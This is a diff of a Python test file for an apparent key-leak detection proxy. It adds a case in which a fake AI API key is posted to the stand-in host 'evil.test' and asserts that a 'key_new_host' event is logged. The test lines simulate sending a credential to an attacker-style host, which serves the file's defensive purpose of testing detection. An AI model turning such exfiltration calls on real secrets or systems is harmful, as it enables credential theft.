@@ -247,6 +247,8 @@ def own(proxy, port):
     for host in ("evil.test", "api.anthropic.com.evil.test",
                  "notanthropic.com"):
         post(host, ant + key("sk-ant-api03-"), "", 1)
+    # one that was found already turns up at another host: an event, too
+    post("evil.test", ant + k, "", 1)
     # what counts is who is connected to, not what the request says
     post("evil.test", ant + key("sk-ant-api03-"), "", 1, "api.anthropic.com")
     json.dump(expected, open("expected.json", "w"))
@@ -260,6 +262,10 @@ def check_own():
         equal(f["pattern"], "ai_api_key")
         got[f["source"]] = got.get(f["source"], 0) + 1
     equal(got, {s: n for s, n in expected.items() if n})
+    news = [(e["reason"], e["dest"].split(":")[0], e["count"])
+            for e in map(json.loads, open("home/log/events.jsonl"))
+            if e["event"] == "key_new_host"]
+    equal(news, [("ai_api_key", "evil.test", 1)])
 
 
 TREES = [
